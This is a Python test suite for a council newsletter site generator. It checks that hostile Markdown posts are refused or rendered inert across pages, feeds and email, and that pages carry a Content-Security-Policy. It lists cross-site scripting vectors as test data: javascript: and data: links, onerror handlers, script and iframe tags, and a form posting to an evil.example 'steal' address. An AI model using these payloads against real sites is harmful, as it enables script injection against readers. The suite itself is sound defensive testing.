"""Newsletters cannot carry script, third-party content or unchecked files.

A post written as a hostile (or careless) author would, with every trick Markdown allows, is
either refused by `check` with each bad link named with its line, or built into a site, feeds
and an email in which nothing is live: no executable address, no event handler, no script,
frame or form, nothing loaded from another host. Every output is parsed (lxml), not grepped.

Two walls stand between a post and a reader: the Markdown check and escaping (content/check.py,
postcheck.py, shortcodes.py) and the nh3 allow-list (render/sanitize.py). Each is tested alone, with the other
switched off.
"""

from __future__ import annotations

import email
import json
import shutil
import struct
import zlib
from dataclasses import dataclass
from email import policy
from pathlib import Path
from urllib.parse import urlsplit

import lxml.etree
import lxml.html
import pytest
from click.testing import CliRunner

from dlp_site.cli import main
from dlp_site.content import check as post_check
from dlp_site.content import shortcodes
from dlp_site.content.check import read_posts
from dlp_site.content.postcheck import EXTENSION_CONFIGS, EXTENSIONS
from dlp_site.content.posts import Post
from dlp_site.errors import DataError, errors
from dlp_site.model.site import Site
from dlp_site.pipeline import build, check
from dlp_site.render import post_html
from dlp_site.render.email import email as email_of
from dlp_site.render.feeds import feed
from dlp_site.site import hooks

from .conftest import OTHERTOWN, ROOT, edit, paths, tree_digest

SITE_URL = "https://dbv.example.org/"
OWN_HOSTS = {"dbv.example.org"}
HEAD = "---\ntitle: Hostile\ndate: 2024-04-01\ncategories: [City-wide]\n---\n\n"  # the body starts on line 7


def png() -> bytes:
    """A real 1x1 PNG picture."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


@dataclass(frozen=True)
class Vector:
    markdown: str
    problem: str | None = None  # how check's message starts; None: the post may keep it, shown as text
    line: int = 0  # the line of `markdown` the problem is reported on


# Refused by check, each on its own line.
REFUSED = [
    Vector('[ok](https://e.org/){: href="javascript:alert(3)" }', "attribute list"),
    Vector('![p](pic.png){: onload="alert(4)" }', "attribute list"),
    Vector('A paragraph.\n{: onmouseover="alert(6)" style="position:fixed;top:0" }', "attribute list", 1),
    Vector('![b](pic.png){: src="http://evil.example/attr.png" }', "attribute list"),
    Vector("[click\nme](javascript:alert(7))", "link 'javascript:alert(7)' is not allowed", 1),
    Vector("[click me](\njavascript:alert(8))", "link 'javascript:alert(8)' is not allowed", 1),
    Vector("[by reference][r1]\n\n[r1]:\n    javascript:alert(9)", "link 'javascript:alert(9)' is not allowed", 3),
    Vector("![from elsewhere][r2]\n\n[r2]:\n    http://evil.example/ref.png", "image from another website", 3),
    Vector("[mixed case](JaVaScRiPt:alert(10))", "link 'JaVaScRiPt:alert(10)' is not allowed"),
    Vector("[entity](&#106;avascript:alert(11))", "link '&#106;avascript:alert(11)' is not allowed"),
    Vector("[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)", "link 'data:text/html"),
    Vector("[vb](vbscript:msgbox(13))", "link 'vbscript:msgbox(13)' is not allowed"),
    Vector("![protocol-relative](//evil.example/p.png)", "image from another website"),
    Vector(r"![backslashes](\\\\evil.example/b.png)", "image from another website"),
    Vector("![data picture](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "picture 'data:image/svg+xml"),
    Vector('```{ .py onclick="alert(14)" }\ncode\n```', "a 'onclick' attribute on <code> is not allowed", 2),
]
# Kept as text: they reach the page, feeds and email as words, never as markup.
AS_TEXT = [
    Vector("Before a fence indented by three spaces\n   ```\n<img src=x onerror=alert(15)>"),
    Vector("```<img src=x onerror=alert(16)>```\n<img src=x onerror=alert(17)>"),
    Vector(r"\`<img src=x onerror=alert(19)>`"),
    Vector('<a href="javascript:alert(20)">raw link</a>'),
    Vector('<iframe src="https://evil.example/frame"></iframe>'),
    Vector('<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>'),
    Vector("<img src=x onerror=alert(21)>"),
    Vector('<p style="position:fixed;top:0;left:0;width:100%;height:100%;'
           'background:url(https://evil.example/bg.png)">cover</p>'),
    Vector("<script>alert(22)</script>"),
    Vector('<div markdown="1" onclick="alert(23)">*md in html*</div>'),
    Vector('<svg><a xlink:href="javascript:alert(24)"><text>svg</text></a></svg>'),
    Vector("An autolink <javascript:alert(25)>"),
    Vector("Code: `<img src=x onerror=alert(26)>`"),
    Vector("```\n<img src=x onerror=alert(18)>"),  # a fence never closed (last: nothing may close it)
]
FIRST = "Our first paragraph `<img src=x onerror=alert(1)>` is the summary."
MORE = "<!-- more -->"


def body(vectors: list[Vector], *, excerpt: bool = False) -> tuple[str, list[tuple[int, str]]]:
    """The post's body and, for each refused vector, (file line, start of the message). With
    `excerpt`, every vector is in the excerpt the newsletters, category and archive pages show."""
    text, expected, line = FIRST + "\n\n", [], HEAD.count("\n") + 3
    if not excerpt:
        text, line = text + MORE + "\n\n", line + 2
    for v in vectors:
        if v.problem:
            expected.append((line + v.line, v.problem))
        text += v.markdown + "\n\n"
        line += v.markdown.count("\n") + 2
    return text + (MORE + "\n" if excerpt else ""), expected


def town(tmp_path: Path) -> Path:
    """The small second council's data with a site_url (for feeds and email) and a picture."""
    data = tmp_path / "data"
    shutil.copytree(OTHERTOWN, data)
    edit(data, "programme.yml", "reporting_term:", f"site_url: {SITE_URL}\nreporting_term:")
    (data / "newsletters").mkdir()
    (data / "newsletters" / "pic.png").write_bytes(png())
    return data


def write_post(data: Path, name: str, text: str, head: str = HEAD) -> Path:
    path = data / "newsletters" / name
    path.write_text(head + text, encoding="utf-8")
    return path


def problems(issues, name: str) -> list[tuple[int, str]]:
    return [(i.row, i.message) for i in errors(issues) if i.path == f"newsletters/{name}"]


def matches(found: list[tuple[int, str]], expected: list[tuple[int, str]]) -> bool:
    return len(found) == len(expected) and all(
        line == want_line and message.startswith(want)
        for (line, message), (want_line, want) in zip(found, expected, strict=True))


# --- parsing the outputs ------------------------------------------------------------------------

ACTIVE = {"script", "iframe", "frame", "object", "embed", "form", "input", "button", "base", "meta", "link",
          "style", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset",
                  "codebase", "cite"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def live(root, *, elements: bool = True) -> list[str]:
    """Everything in a parsed tree that could run or load something: event handlers, addresses
    with another scheme, resources (or CSS url()s) from another host, and (if `elements`)
    script, frame, form, style and the like."""
    found = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        if elements and tag in ACTIVE:
            found.append(f"<{tag}>")
        for name, value in el.attrib.items():
            name = name.lower()
            target = "".join(value.split()).replace("\\", "/").lower()  # as a browser reads it
            if name.startswith("on"):
                found.append(f"{name} on <{tag}>")
            if name == "style" and "url(" in target:
                found.append(f"style url() on <{tag}>")
            if name in URL_ATTRIBUTES:
                parts = urlsplit(target)
                if parts.scheme and parts.scheme not in SAFE_SCHEMES:
                    found.append(f"{name}={value!r} on <{tag}>")
                if name not in ("href", "cite") and parts.netloc and parts.netloc not in OWN_HOSTS:
                    found.append(f"third-party {name}={value!r} on <{tag}>")
    return found


def fragment(markup: str):
    return lxml.html.fragment_fromstring(markup, create_parent="div")


def site_findings(site: Path, slug: str) -> list[str]:
    """Every page; the content of the newsletters pages (post, listing, category, archive),
    where no script, frame or form may appear at all; the search index; both feeds."""
    found = []
    for page in sorted(site.rglob("*.html")):
        tree = lxml.html.parse(str(page))
        name = page.relative_to(site).as_posix()
        found += [f"{name}: {f}" for f in live(tree.getroot(), elements=False)]
        if name.startswith("newsletters/"):
            for region in tree.xpath("//div[contains(concat(' ', @class, ' '), ' md-content ')]"):
                found += [f"{name} content: {f}" for f in live(region)]
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        if doc["location"].startswith(f"newsletters/{slug}/"):
            found += [f"search {doc['location']}: {f}" for f in live(fragment(doc["text"] or "<p></p>"))]
    return found + feed_findings((site / "newsletters" / "feed_rss.xml").read_bytes(),
                                 (site / "newsletters" / "feed_atom.xml").read_bytes())


def feed_findings(rss_xml: bytes, atom_xml: bytes) -> list[str]:
    found = []
    rss = lxml.etree.fromstring(rss_xml)
    for item in rss.iter("item"):
        description = fragment(item.findtext("description"))
        found += [f"RSS description: <{e.tag}>" for e in description.iterdescendants()]  # text only
        content = item.findtext("{http://purl.org/rss/1.0/modules/content/}encoded")
        found += [f"RSS content: {f}" for f in live(fragment(content))]
    atom = lxml.etree.fromstring(atom_xml)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    for entry in atom.iterfind("a:entry", ns):
        assert entry.find("a:summary", ns).get("type") in (None, "text")
        found += [f"Atom content: {f}" for f in live(fragment(entry.findtext("a:content", namespaces=ns)))]
    return found


def email_findings(data: Path, slug: str) -> list[str]:
    model, post = checked_post(data, slug)
    message = email.message_from_bytes(email_of(model, post).message.as_bytes(), policy=policy.default)
    document = lxml.html.document_fromstring(message.get_body(("html",)).get_content())
    return [f"email: {f}" for f in live(document.body)]


def checked_post(data: Path, slug: str) -> tuple[Site, Post]:
    model, issues = check(data, None)
    assert model is not None, errors(issues)
    return model, next(p for p in read_posts(model, data)[0] if p.slug == slug)


def counting(function):
    """A stand-in that records its calls, so a test knows it replaced something on the path."""
    def stand_in(*args, **kwargs):
        stand_in.calls += 1
        return function(*args, **kwargs)

    stand_in.calls = 0
    return stand_in


# --- refused, with every bad link named with its line -----------------------------------------

def test_hostile_post_is_refused_with_every_bad_link_and_its_line(tmp_path):
    data = town(tmp_path)
    text, expected = body(REFUSED + AS_TEXT)
    out = tmp_path / "site"
    write_post(data, "hostile.md", "A good post.\n\n<!-- more -->\n")
    build(paths(data), out)
    before = tree_digest(out)
    write_post(data, "hostile.md", text)
    site, issues = check(data, None)
    assert site is None
    found = problems(issues, "hostile.md")
    assert matches(found, expected), "\n".join(f"{line}: {m}" for line, m in found)
    with pytest.raises(DataError):
        build(paths(data), out)
    assert tree_digest(out) == before  # the last good site is untouched


def test_markdown_features_cannot_carry_script(tmp_path):
    """Attribute lists, links split over lines, a reference defined on the next line: each one
    a way the line-by-line check of old let script through."""
    data = town(tmp_path)
    vectors = REFUSED[:8]
    text, expected = body(vectors)
    write_post(data, "tricks.md", text)
    _, issues = check(data, None)
    assert matches(problems(issues, "tricks.md"), expected), problems(issues, "tricks.md")


def test_pictures_only_from_beside_the_post(tmp_path):
    data = town(tmp_path)
    write_post(data, "pictures.md", "Intro.\n\n<!-- more -->\n\n"
               "![ok](pic.png) ![site](../../assets/images/favicon.svg)\n\n"
               "![a][r]\n\n[r]:\n    http://evil.example/ref.png\n\n"
               '![b](pic.png){: src="http://evil.example/attr.png"}\n\n'
               "![c](//evil.example/c.png) ![d](nothing-here.png) ![e](../../../../elsewhere.png)\n")
    _, issues = check(data, None)
    assert problems(issues, "pictures.md") == [
        (16, "image from another website: http://evil.example/ref.png"),
        (18, "attribute list '{src=\"http://evil.example/attr.png\"}' is not allowed in a post"),
        (20, "image from another website: //evil.example/c.png"),
        (20, "no picture 'nothing-here.png' beside the post"),
        (20, "picture '../../../../elsewhere.png' is outside the site"),
    ]


ORDINARY = """Intro with a [link](https://example.org "Title"), [mail](mailto:a@b.org) and [phone](tel:+441234567890).

<!-- more -->

## What changed

!!! note "Remember"
    An admonition with **bold** text.

| Left | Centre | Right |
|:-----|:------:|------:|
| a    | b      | c     |

3. three
4. four

> A quote, and ![A chart](pic.png "Waiting times").

```python
print("<b>kept as code</b>")
```

[[kpi es-screen]]
"""


def test_ordinary_markdown_passes_both_walls_intact(tmp_path):
    """What officers really write (admonitions, aligned tables, numbered lists, code, pictures,
    shortcodes) is neither refused nor stripped."""
    data = town(tmp_path)
    write_post(data, "ordinary.md", ORDINARY)
    _, issues = check(data, None)
    assert problems(issues, "ordinary.md") == []
    out = tmp_path / "site"
    build(paths(data), out)
    rss = lxml.etree.fromstring((out / "newsletters" / "feed_rss.xml").read_bytes())
    in_feed = fragment(rss.findtext(".//{http://purl.org/rss/1.0/modules/content/}encoded"))
    on_page = lxml.html.parse(str(out / "newsletters" / "ordinary" / "index.html")).getroot().xpath("//article")[0]
    for html_tree in (on_page, in_feed):
        assert html_tree.xpath("//div[@class='admonition note']/p[@class='admonition-title']/text()") == ["Remember"]
        assert html_tree.xpath("//td/@style") == ["text-align:left", "text-align:center", "text-align:right"]
        assert html_tree.xpath("//pre/code[@class='language-python']/text()") == ['print("<b>kept as code</b>")\n']
        assert html_tree.xpath("//h2/@id") == ["what-changed"]
        assert html_tree.xpath("//img/@title") == ["Waiting times"]
        assert html_tree.xpath("//a[@title='Title']/@href") == ["https://example.org"]
        assert html_tree.xpath("//a[starts-with(@href, 'tel:')]/@href") == ["tel:+441234567890"]
        assert html_tree.xpath("//span[@class='dlp-kpi-figure']")  # shortcode output keeps its classes


# --- each wall alone ------------------------------------------------------------------------------

def test_first_wall_alone_keeps_html_as_text(tmp_path, monkeypatch):
    """The sanitiser switched off: check still refuses every bad link, and HTML (raw, or after
    a fence Markdown does not see) reaches the page, the feeds and the email only as text."""
    identity = counting(lambda markup, **_: markup)
    monkeypatch.setattr(hooks, "clean_post_html", identity)
    monkeypatch.setattr(post_html, "clean_post_html", identity)
    data = town(tmp_path)
    refused, expected = body(REFUSED)
    write_post(data, "refused.md", refused)
    _, issues = check(data, None)
    assert matches(problems(issues, "refused.md"), expected)
    (data / "newsletters" / "refused.md").unlink()

    text, expected = body(AS_TEXT, excerpt=True)
    assert expected == []
    write_post(data, "as-text.md", text, HEAD.replace("categories:", 'description: "<img src=x onerror=alert(2)>"\n'
                                                      "categories:"))
    out = tmp_path / "site"
    build(paths(data), out)
    found = site_findings(out, "as-text") + email_findings(data, "as-text")
    assert identity.calls > 0  # the sanitiser really was on the path, and did nothing
    assert found == [], "\n".join(found)
    page = lxml.html.parse(str(out / "newsletters" / "as-text" / "index.html")).getroot()
    words = page.xpath("string(//article)")
    listing = lxml.html.parse(str(out / "newsletters" / "index.html")).getroot().xpath("string(//article)")
    for payload in ("<img src=x onerror=alert(17)>", "<script>alert(22)</script>", '<a href="javascript:alert(20)">',
                    "<img src=x onerror=alert(15)>", "<img src=x onerror=alert(18)>"):
        assert payload in words and payload in listing, payload


def test_second_wall_alone_leaves_nothing_live(tmp_path, monkeypatch):
    """The Markdown check and the escaping switched off: the allow-list alone removes every
    vector from the page, the listing pages, the search index, both feeds and the email."""
    no_check = counting(lambda *_a, **_k: [])
    no_escape = counting(lambda text, prose, escape_html: text)
    monkeypatch.setattr(post_check, "check_markdown", no_check)
    monkeypatch.setattr(shortcodes, "_escape_prose", no_escape)
    data = town(tmp_path)
    head = HEAD.replace("categories:", 'description: "<img src=x onerror=alert(2)>"\ncategories:')
    text, _ = body(REFUSED + AS_TEXT, excerpt=True)
    write_post(data, "hostile.md", text, head)
    # Every vector in the feeds and the email (which MkDocs never sees).
    model, post = checked_post(data, "hostile")
    entries = feed(model, [post])
    found = feed_findings(entries.rss_str(), entries.atom_str()) + email_findings(data, "hostile")
    assert no_check.calls and no_escape.calls
    assert found == [], "\n".join(found)
    # On the site: all but the two links MkDocs' own strict link check refuses to build.
    refused_by_mkdocs = ("&#106;avascript", "\\\\evil")
    text, _ = body([v for v in REFUSED if not any(s in v.markdown for s in refused_by_mkdocs)] + AS_TEXT,
                   excerpt=True)
    write_post(data, "hostile.md", text, head)
    out = tmp_path / "site"
    build(paths(data), out)
    words = lxml.html.parse(str(out / "newsletters" / "hostile" / "index.html")).getroot().xpath("string(//article)")
    listing = lxml.html.parse(str(out / "newsletters" / "index.html")).getroot().xpath("string(//article)")
    for text in (words, listing):  # the post, and its excerpt on the newsletters page, are there, defused
        assert "mixed case" in text and "raw link" in text and "cover" in text
    found = site_findings(out, "hostile")
    assert found == [], "\n".join(found)


# --- the files in data/newsletters ---------------------------------------------------------------

def test_only_lower_case_md_posts_and_allowed_files_are_published(tmp_path):
    data = town(tmp_path)
    folder = data / "newsletters"
    write_post(data, "2024-04-01-news.md", "Fine.\n\n<!-- more -->\n")
    write_post(data, "2022-09-02-news.markdown", "<script>alert(1)</script> [[wibble]]\n",
               "---\ntitle: Sneaky\ndate: 2022-09-02\ntemplate: main.html\n---\n\n")
    write_post(data, "2022-09-01-news.MD", "Secret.\n", "---\ntitle: Draft\ndate: 2022-09-01\ndraft: true\n---\n\n")
    write_post(data, "Upper-Case.md", "x\n")
    write_post(data, "two words.md", "x\n")
    (folder / "report.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    (folder / "drawing.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    (folder / "page.html").write_text("<script>alert(1)</script>")
    (folder / "fake.png").write_text("<script>alert(1)</script>")
    (folder / "My Photo.jpg").write_bytes(b"\xff\xd8\xff\xe0")
    (folder / ".hidden.png").write_bytes(png())
    (folder / "Thumbs.db").write_bytes(b"\x00")
    (folder / "linked.png").symlink_to(folder / "pic.png")
    (folder / "pictures").mkdir()
    _, issues = check(data, None)
    assert sorted((i.path, i.message) for i in errors(issues)) == [
        ("newsletters/2022-09-01-news.MD", "'2022-09-01-news.MD' cannot be a post's file name"),
        ("newsletters/2022-09-02-news.markdown", "'2022-09-02-news.markdown' cannot be a post's file name"),
        ("newsletters/My Photo.jpg", "'My Photo.jpg' cannot be published under this name"),
        ("newsletters/Upper-Case.md", "'Upper-Case.md' cannot be a post's file name"),
        ("newsletters/drawing.svg", "SVG pictures are not published: an SVG file can carry script"),
        ("newsletters/fake.png", "is not a PNG file, whatever its name says"),
        ("newsletters/linked.png", "is a link to another file, which is never published"),
        ("newsletters/page.html", "is not published beside posts"),
        ("newsletters/pictures", "folders in the newsletters folder are not read"),
        ("newsletters/two words.md", "'two words.md' cannot be a post's file name"),
    ]
    for name in ("2022-09-02-news.markdown", "2022-09-01-news.MD", "Upper-Case.md", "two words.md", "drawing.svg",
                 "page.html", "fake.png", "My Photo.jpg", "linked.png"):
        (folder / name).unlink()
    (folder / "pictures").rmdir()
    out = tmp_path / "site"
    build(paths(data), out)
    published = sorted(p.name for p in (out / "newsletters").iterdir() if p.is_file())
    assert published == ["feed_atom.xml", "feed_rss.xml", "index.html", "pic.png", "report.pdf"]
    assert (out / "newsletters" / "pic.png").read_bytes() == png()


def test_a_file_name_with_a_newline_is_refused_on_one_line(tmp_path):
    data = town(tmp_path)
    write_post(data, "evil\n.md", "Hello.\n\n<!-- more -->\n")
    result = CliRunner().invoke(main, ["check", "--data", str(data), "--geo", str(ROOT / "geo")])
    assert result.exit_code == 1
    assert any(line.startswith("newsletters/evil\\n.md: 'evil\\n.md' cannot be a post's file name")
               for line in result.output.splitlines()), result.output


# --- feeds and email -------------------------------------------------------------------------------

def test_rss_description_is_text_that_no_feed_reader_renders_as_html(tmp_path):
    data = town(tmp_path)
    payload = "<img src=x onerror=alert(1)> & <b>bold</b>"
    write_post(data, "described.md", "Body.\n\n<!-- more -->\n",
               HEAD.replace("categories:", f"description: {json.dumps(payload)}\ncategories:"))
    write_post(data, "first-paragraph.md", f"`{payload}` in backticks.\n\n<!-- more -->\n\nMore.\n",
               HEAD.replace("Hostile", "Second"))
    out = tmp_path / "site"
    build(paths(data), out)
    rss = lxml.etree.fromstring((out / "newsletters" / "feed_rss.xml").read_bytes())
    descriptions = {item.findtext("link"): item.findtext("description") for item in rss.iter("item")}
    for slug, text in (("described", payload), ("first-paragraph", f"{payload} in backticks.")):
        parsed = fragment(descriptions[f"{SITE_URL}newsletters/{slug}/"])  # as a feed reader reads it: HTML
        assert list(parsed.iterdescendants()) == [] and parsed.text_content() == text
    atom = lxml.etree.fromstring((out / "newsletters" / "feed_atom.xml").read_bytes())
    summaries = atom.findall(".//{http://www.w3.org/2005/Atom}summary")
    assert payload in [s.text for s in summaries]  # Atom's summary is type text: the text itself


def test_email_from_is_one_mailbox_when_the_programme_name_has_a_comma(tmp_path):
    data = town(tmp_path)
    edit(data, "programme.yml", "programme: Delivering Better Value in SEND",
         'programme: "Delivering Better Value, Northmoor"')
    write_post(data, "news.md", "Hello.\n\n<!-- more -->\n")
    model, _ = check(data, None)
    post = read_posts(model, data)[0][0]
    message = email.message_from_bytes(email_of(model, post).message.as_bytes(), policy=policy.default)
    sender = message["From"].addresses
    assert [(a.display_name, a.addr_spec) for a in sender] == [("Delivering Better Value, Northmoor",
                                                                "send-dbv@northmoor.example")]


def test_a_title_with_a_line_break_is_a_check_error_not_a_traceback(tmp_path):
    data = town(tmp_path)
    write_post(data, "news.md", "Hello.\n\n<!-- more -->\n", HEAD.replace("title: Hostile", 'title: "Two\\nlines"'))
    _, issues = check(data, None)
    assert problems(issues, "news.md") == [
        (2, "the title must be one line of text, without line breaks or control characters")]
    result = CliRunner().invoke(main, ["newsletter", "export", "news", "--data", str(data), "--geo",
                                       str(ROOT / "geo"), "--out", str(tmp_path / "export")])
    assert result.exit_code == 1 and result.exception.__class__ is SystemExit  # a clean error, not a crash
    assert "newsletters/news.md:2:title: the title must be one line" in result.output
    assert "Traceback" not in result.output


def test_feed_and_email_pictures_point_at_the_published_file(tmp_path):
    data = town(tmp_path)
    write_post(data, "pictured.md", "Intro.\n\n<!-- more -->\n\n![A chart of waiting times](pic.png)\n")
    out = tmp_path / "site"
    build(paths(data), out)
    model, _ = check(data, None)
    post = next(p for p in read_posts(model, data)[0] if p.slug == "pictured")
    mail = lxml.html.document_fromstring(email_of(model, post).html)
    rss = lxml.etree.fromstring((out / "newsletters" / "feed_rss.xml").read_bytes())
    content = fragment(rss.findtext(".//{http://purl.org/rss/1.0/modules/content/}encoded"))
    page = lxml.html.parse(str(out / "newsletters" / "pictured" / "index.html")).getroot()
    on_page = page.xpath("//article//img/@src")
    sources = content.xpath("//img/@src") + mail.xpath("//img/@src")
    assert sources == [f"{SITE_URL}newsletters/pic.png"] * 2
    for src in sources:
        published = out / urlsplit(src).path.lstrip("/")
        assert published.read_bytes() == (data / "newsletters" / "pic.png").read_bytes()
    assert on_page == ["../pic.png"]  # the page itself: the same file, relative


def test_posts_are_parsed_as_mkdocs_parses_them():
    """The check, the feeds and the email parse posts with the extensions MkDocs renders them with."""
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    assert sorted(config["markdown_extensions"]) == sorted(EXTENSIONS)
    for name, options in EXTENSION_CONFIGS.items():
        assert config["mdx_configs"][name] == options


# --- the Content-Security-Policy ---------------------------------------------------------------------

def policies(site: Path) -> dict[str, dict[str, list[str]]]:
    out = {}
    for page in sorted(site.rglob("*.html")):
        head = lxml.html.parse(str(page)).getroot().head
        metas = head.xpath("meta[@http-equiv='Content-Security-Policy']")
        assert len(metas) == 1, page
        scripts = head.xpath("script")
        assert not scripts or head.index(metas[0]) < head.index(scripts[0]), page  # before any script
        out[page.relative_to(site).as_posix()] = {
            d.split()[0]: d.split()[1:] for d in metas[0].get("content").split(";")}
    return out


@pytest.mark.parametrize("which", ["example_site", "othertown_site"])
def test_every_page_carries_a_content_security_policy(request, which: str):
    site = request.getfixturevalue(which)
    tiles = ["https://tile.openstreetmap.org"] if which == "example_site" else []
    for page, directives in policies(site).items():
        script = directives["script-src"]
        assert script[0] == "'self'" and all(s.startswith("'sha256-") for s in script[1:]), page
        assert directives["default-src"] == ["'self'"] and directives["object-src"] == ["'none'"], page
        assert directives["img-src"] == ["'self'", "data:", *tiles], page


def test_the_policy_lets_only_materials_own_inline_scripts_run(example_site: Path):
    from dlp_site.render.csp import inline_scripts, script_hash

    for page, directives in policies(example_site).items():
        text = (example_site / page).read_text(encoding="utf-8")
        assert {script_hash(s) for s in inline_scripts(text)} <= set(directives["script-src"]), page
        assert "'unsafe-inline'" not in directives["script-src"] and "'unsafe-hashes'" not in directives["script-src"]
